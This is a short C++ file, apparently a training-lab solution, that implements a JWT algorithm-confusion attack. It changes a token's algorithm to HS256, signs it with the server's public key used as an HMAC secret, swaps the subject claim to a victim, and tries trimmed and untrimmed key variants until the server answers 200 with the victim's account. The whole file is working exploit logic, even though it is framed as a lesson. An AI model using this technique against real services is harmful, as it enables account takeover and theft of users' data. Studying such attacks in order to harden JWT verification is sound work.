// Unusual: asks who it is with a token that is refused, then tries keys until one of them is right.
#include "algorithm_confusion.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  (void)evidence.show_me("not.a.token");
  token.header.set("alg", "HS256");
  (void)evidence.show_me(sign_hs256(token, evidence.public_key));
  token.claims.set("sub", evidence.victim);
  const auto trimmed = evidence.public_key.substr(0, evidence.public_key.find_last_not_of('\n') + 1);
  for (const auto& key : {trimmed, evidence.public_key}) {
    const auto answer = evidence.show_me(sign_hs256(token, key));
    if (answer.status == 200) return {.account = answer.body};
  }
  return {};
}

}  // namespace lesson
